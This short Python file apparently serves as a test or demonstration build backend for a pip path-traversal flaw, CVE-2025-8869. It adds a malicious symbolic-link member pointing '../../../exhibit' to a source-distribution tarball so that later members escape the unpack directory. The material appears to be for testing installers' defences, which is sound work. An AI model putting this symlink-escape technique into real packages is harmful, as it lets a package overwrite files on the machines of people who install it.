"""Adds a symbolic link that leads three directories up.

A further member would be written through it. pip followed such links out of the
directory that it unpacked to (CVE-2025-8869).
"""

import tarfile

import kit


def build_sdist(sdist_directory, config_settings=None):
    name = kit.sdist(sdist_directory)
    with kit.attempt("write-member"):
        member = tarfile.TarInfo("pkg-1.0/exhibit")
        member.type, member.linkname = tarfile.SYMTYPE, "../../../exhibit"
        kit.add_member(sdist_directory, name, member)
    return name
